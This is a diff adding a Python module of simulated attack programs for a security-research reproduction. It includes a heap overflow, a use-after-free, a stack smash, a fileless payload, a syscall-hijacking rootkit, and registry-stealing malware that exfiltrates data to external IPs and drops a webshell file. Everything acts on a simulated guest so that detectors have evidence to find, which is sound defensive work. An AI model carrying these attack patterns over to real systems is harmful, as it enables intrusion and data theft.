@@ -1,0 +1,427 @@
+"""Attack programs: the exploits the case studies detect.
+
+Each attack performs *real* operations against the simulated guest —
+out-of-bounds stores, kernel-structure mutation, process/socket/file
+creation — so the evidence the Detector modules and forensics plugins look
+for is physically present in guest memory.
+"""
+
+from repro.guest.windows import TCP_CLOSE_WAIT
+from repro.workloads.base import GuestProgram
+
+#: Synthetic instruction addresses, so replay can report "the exact
+#: instruction which caused the buffer overflow" (§5.5).
+BENIGN_WRITE_RIP = 0x0000000000401200
+OVERFLOW_RIP = 0x000000000040BAD0
+
+
+class OverflowAttackProgram(GuestProgram):
+    """A C program with a heap overflow (§5.5's case study).
+
+    Runs benign allocate/write/free cycles each epoch; on the trigger
+    epoch, a ``memcpy``-style store writes ``overflow_bytes`` past the end
+    of a fresh allocation, clobbering the canary the guest's malloc
+    wrapper placed there.
+    """
+
+    name = "overflow-attack"
+
+    def __init__(self, process_name="victimd", trigger_epoch=3,
+                 buffer_size=100, overflow_bytes=8,
+                 attack_offset_fraction=0.5, exfil_after_attack=True):
+        super().__init__()
+        self.process_name = process_name
+        self.trigger_epoch = trigger_epoch
+        self.buffer_size = buffer_size
+        self.overflow_bytes = overflow_bytes
+        self.attack_offset_fraction = attack_offset_fraction
+        self.exfil_after_attack = exfil_after_attack
+        self._epoch = 0
+        self._attacked = False
+        self._pid = None
+        #: Virtual time at which the exploit executed (for Figure 8).
+        self.attack_time_ms = None
+
+    def bind(self, vm):
+        super().bind(vm)
+        process = vm.create_process(self.process_name)
+        self._pid = process.pid
+
+    @property
+    def process(self):
+        return self.vm.processes[self._pid]
+
+    @property
+    def attacked(self):
+        return self._attacked
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        process = self.process
+        vm = self.vm
+
+        # Benign per-epoch behaviour: a working allocation that is written
+        # in-bounds and released.
+        vm.cpu["rip"] = BENIGN_WRITE_RIP
+        scratch = process.malloc(64)
+        process.write(scratch, b"request-%06d" % self._epoch)
+        process.free(scratch)
+
+        if self._epoch == self.trigger_epoch and not self._attacked:
+            # The exploit: allocate, then copy more than fits.
+            victim = process.malloc(self.buffer_size)
+            payload = bytes(
+                (0x41 + (index % 26))
+                for index in range(self.buffer_size + self.overflow_bytes)
+            )
+            vm.cpu["rip"] = OVERFLOW_RIP
+            process.write(victim, payload)  # <- out-of-bounds store
+            vm.cpu["rip"] = BENIGN_WRITE_RIP
+            self._attacked = True
+            if self.attack_time_ms is None:
+                # Sticky: replay re-executes this store, but the timeline
+                # anchors on the original exploit instant.
+                self.attack_time_ms = (
+                    start_ms + self.attack_offset_fraction * interval_ms
+                )
+            if self.exfil_after_attack:
+                # Post-exploit damage attempt: open a connection and
+                # exfiltrate. The kernel socket object stays behind as
+                # forensic evidence; under Synchronous Safety the packet
+                # itself is buffered and later destroyed.
+                from repro.guest.devices import Packet
+
+                vm.open_socket(
+                    self._pid, ("10.0.0.5", 4444), ("198.51.100.7", 80)
+                )
+                vm.open_file(self._pid, "/var/www/html/.webshell.php")
+                vm.nic.send(
+                    Packet(
+                        src="10.0.0.5:4444",
+                        dst="198.51.100.7:80",
+                        payload=b"BEGIN_DUMP " + payload[:32],
+                    )
+                )
+        return {"synthetic_dirty": 0}
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "attacked": self._attacked,
+                "pid": self._pid}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._attacked = state["attacked"]
+        self._pid = state["pid"]
+
+
+class MalwareProgram(GuestProgram):
+    """§5.6's Windows malware: reads the registry, writes the data to a
+    file, and ships it to an external aggregation server."""
+
+    name = "malware"
+
+    MALWARE_NAME = "reg_read.exe"
+    LOCAL_ENDPOINT = ("192.168.1.76", 49164)
+    REMOTE_ENDPOINT = ("104.28.18.89", 8080)
+    DROP_FILE = "\\Device\\HarddiskVolume2\\Users\\root\\Desktop\\write_file.txt"
+
+    def __init__(self, trigger_epoch=2, hide=False):
+        super().__init__()
+        self.trigger_epoch = trigger_epoch
+        self.hide = hide
+        self._epoch = 0
+        self._launched = False
+        self._pid = None
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        if self._epoch != self.trigger_epoch or self._launched:
+            return {"synthetic_dirty": 0}
+        vm = self.vm
+        self._pid = vm.create_process(self.MALWARE_NAME)
+        self._launched = True
+
+        # Harvest the registry (real reads of guest memory).
+        harvested = vm.read_registry()
+        blob = "\n".join("%s=%s" % (key, value) for key, value in harvested)
+
+        # Drop the stolen data into a file...
+        vm.open_file(self._pid, self.DROP_FILE)
+        vm.disk.write(block=0x42, data=blob.encode("utf-8"))
+
+        # ...and ship it to the aggregation server.
+        socket_va = vm.open_socket(
+            self._pid, self.LOCAL_ENDPOINT, self.REMOTE_ENDPOINT
+        )
+        from repro.guest.devices import Packet
+
+        vm.nic.send(
+            Packet(
+                src="%s:%d" % self.LOCAL_ENDPOINT,
+                dst="%s:%d" % self.REMOTE_ENDPOINT,
+                payload=b"EXFIL " + blob.encode("utf-8"),
+            )
+        )
+        vm.set_socket_state(socket_va, TCP_CLOSE_WAIT)
+        if self.hide:
+            vm.hide_process(self._pid)
+        return {"synthetic_dirty": 0}
+
+    @property
+    def malware_pid(self):
+        return self._pid
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "launched": self._launched,
+                "pid": self._pid}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._launched = state["launched"]
+        self._pid = state["pid"]
+
+
+class UseAfterFreeProgram(GuestProgram):
+    """A dangling-pointer write (§4.2's DoubleTake-style evidence).
+
+    Allocates a session object, frees it, keeps the stale pointer, and on
+    the trigger epoch writes through it — disturbing the poison fill the
+    allocator placed over the freed region.
+    """
+
+    name = "use-after-free"
+
+    UAF_RIP = 0x000000000040F4EE  # stylized attack rip
+
+    def __init__(self, process_name="sessiond", trigger_epoch=3,
+                 object_size=48):
+        super().__init__()
+        self.process_name = process_name
+        self.trigger_epoch = trigger_epoch
+        self.object_size = object_size
+        self._epoch = 0
+        self._dangling = None
+        self._attacked = False
+        self._pid = None
+
+    def bind(self, vm):
+        super().bind(vm)
+        process = vm.create_process(self.process_name)
+        self._pid = process.pid
+        # The victim object: allocated and freed before the loop starts;
+        # the program keeps the dangling pointer.
+        self._dangling = process.malloc(self.object_size)
+        process.write(self._dangling, b"session-token-A1")
+        process.free(self._dangling)
+
+    @property
+    def process(self):
+        return self.vm.processes[self._pid]
+
+    @property
+    def attacked(self):
+        return self._attacked
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        process = self.process
+        self.vm.cpu["rip"] = BENIGN_WRITE_RIP
+        scratch = process.malloc(32)
+        process.write(scratch, b"tick %06d" % self._epoch)
+        process.free(scratch)
+
+        if self._epoch == self.trigger_epoch and not self._attacked:
+            self.vm.cpu["rip"] = self.UAF_RIP
+            process.write(self._dangling + 8, b"HIJACKED")  # dangling write
+            self.vm.cpu["rip"] = BENIGN_WRITE_RIP
+            self._attacked = True
+        return {"synthetic_dirty": 0}
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "attacked": self._attacked,
+                "pid": self._pid, "dangling": self._dangling}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._attacked = state["attacked"]
+        self._pid = state["pid"]
+        self._dangling = state["dangling"]
+
+
+class StackSmashProgram(GuestProgram):
+    """A stack-smashing exploit (return-address overwrite).
+
+    Runs normal call/return cycles each epoch; on the trigger epoch a
+    function writes past a stack-local buffer, clobbering the StackGuard
+    canary, and — crucially — *never executes its epilogue* (the
+    hijacked return jumps elsewhere). Compiler-style stack protection
+    misses this; CRIMES's end-of-epoch canary scan does not.
+    """
+
+    name = "stack-smash"
+
+    SMASH_RIP = 0x000000000040C0DE  # stylized attack rip
+
+    def __init__(self, process_name="netparser", trigger_epoch=3,
+                 buffer_size=64, smash_bytes=8):
+        super().__init__()
+        self.process_name = process_name
+        self.trigger_epoch = trigger_epoch
+        self.buffer_size = buffer_size
+        self.smash_bytes = smash_bytes
+        self._epoch = 0
+        self._smashed = False
+        self._pid = None
+
+    def bind(self, vm):
+        super().bind(vm)
+        self._pid = vm.create_process(self.process_name).pid
+
+    @property
+    def process(self):
+        return self.vm.processes[self._pid]
+
+    @property
+    def smashed(self):
+        return self._smashed
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        process = self.process
+        guard = process.stack_guard
+
+        # Benign call/return: locals written in bounds, epilogue passes.
+        self.vm.cpu["rip"] = BENIGN_WRITE_RIP
+        frame = guard.push_frame(48)
+        process.write(frame, b"parse-%06d" % self._epoch)
+        guard.pop_frame()
+
+        if self._epoch == self.trigger_epoch and not self._smashed:
+            # An enclosing caller frame, so the smash lands inside the
+            # mapped stack even when it runs past the victim's canary.
+            guard.push_frame(64)
+            frame = guard.push_frame(self.buffer_size)
+            payload = b"\x90" * self.buffer_size + b"\xde\xad\xbe\xef" * (
+                max(self.smash_bytes // 4, 2)
+            )
+            self.vm.cpu["rip"] = self.SMASH_RIP
+            process.write(frame, payload)  # smashes past the locals
+            self.vm.cpu["rip"] = BENIGN_WRITE_RIP
+            # Control flow is hijacked: the epilogue check never runs.
+            guard.abandon_frame()
+            self._smashed = True
+        return {"synthetic_dirty": 0}
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "smashed": self._smashed,
+                "pid": self._pid}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._smashed = state["smashed"]
+        self._pid = state["pid"]
+
+
+class MemoryResidentMalware(GuestProgram):
+    """Fileless, in-memory payload staged into a benign-looking process.
+
+    Leaves no canary damage, no blacklisted process name, no kernel
+    mutation — the fast per-epoch scans all pass. The evidence is a byte
+    signature in RAM, which only a full-memory sweep (the asynchronous
+    deep scanner's :class:`~repro.detectors.deep.SignatureSweepModule`)
+    finds.
+    """
+
+    name = "memory-resident-malware"
+
+    PAYLOAD = b"METERPRETER_STAGE2" + b"\x90" * 46
+
+    def __init__(self, trigger_epoch=2, host_process="update_agent"):
+        super().__init__()
+        self.trigger_epoch = trigger_epoch
+        self.host_process = host_process
+        self._epoch = 0
+        self._staged = False
+        self._pid = None
+        self._payload_va = None
+
+    def bind(self, vm):
+        super().bind(vm)
+        process = vm.create_process(self.host_process)
+        self._pid = process.pid
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        if self._epoch != self.trigger_epoch or self._staged:
+            return {"synthetic_dirty": 0}
+        process = self.vm.processes[self._pid]
+        self._payload_va = process.malloc(len(self.PAYLOAD))
+        process.write(self._payload_va, self.PAYLOAD)  # stays in-bounds
+        self._staged = True
+        return {"synthetic_dirty": 0}
+
+    @property
+    def staged(self):
+        return self._staged
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "staged": self._staged,
+                "pid": self._pid, "payload_va": self._payload_va}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._staged = state["staged"]
+        self._pid = state["pid"]
+        self._payload_va = state["payload_va"]
+
+
+class RootkitProgram(GuestProgram):
+    """A Linux kernel rootkit: loads a module, hijacks a syscall slot, and
+    hides a worker process via direct kernel-object manipulation."""
+
+    name = "rootkit"
+
+    MODULE_NAME = "diamorphine"
+    HIJACKED_SYSCALL = 42
+    PAYLOAD_ADDRESS = 0xFFFFFFFFA0100000
+
+    def __init__(self, trigger_epoch=2, hide_worker=True):
+        super().__init__()
+        self.trigger_epoch = trigger_epoch
+        self.hide_worker = hide_worker
+        self._epoch = 0
+        self._installed = False
+        self._worker_pid = None
+
+    def step(self, start_ms, interval_ms):
+        self._require_bound()
+        self._epoch += 1
+        if self._epoch != self.trigger_epoch or self._installed:
+            return {"synthetic_dirty": 0}
+        vm = self.vm
+        vm.load_module(self.MODULE_NAME, 0x8000)
+        vm.hijack_syscall(self.HIJACKED_SYSCALL, self.PAYLOAD_ADDRESS)
+        worker = vm.create_process("kworker_miner", canaries_enabled=False)
+        self._worker_pid = worker.pid
+        if self.hide_worker:
+            vm.hide_process(worker.pid)
+        self._installed = True
+        return {"synthetic_dirty": 0}
+
+    @property
+    def worker_pid(self):
+        return self._worker_pid
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "installed": self._installed,
+                "worker_pid": self._worker_pid}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._installed = state["installed"]
+        self._worker_pid = state["worker_pid"]
